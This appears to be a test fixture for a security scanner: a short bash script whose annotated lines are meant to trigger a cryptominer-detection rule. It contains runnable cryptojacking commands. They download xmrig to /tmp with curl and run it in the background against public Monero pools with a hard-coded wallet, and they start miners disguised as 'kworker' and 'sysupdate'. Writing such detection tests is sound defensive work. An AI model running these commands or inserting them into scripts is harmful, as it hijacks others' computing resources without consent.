#!/bin/bash
W=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -o /tmp/x.tgz # want "SV720: .*downloads a miner"
tar xzf /tmp/x.tgz -C /tmp
nohup /tmp/xmrig-6.21.0/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u $W --donate-level 1 -B >/dev/null 2>&1 & # want "SV720: .*runs the miner xmrig"
/tmp/.cache/kworker -o pool.hashvault.pro:443 -u "$W" -k --tls # want "SV720: .*mining pool pool.hashvault.pro"
./sysupdate --url=stratum+ssl://gulf.moneroocean.stream:20128 # want "SV720: .*stratum"
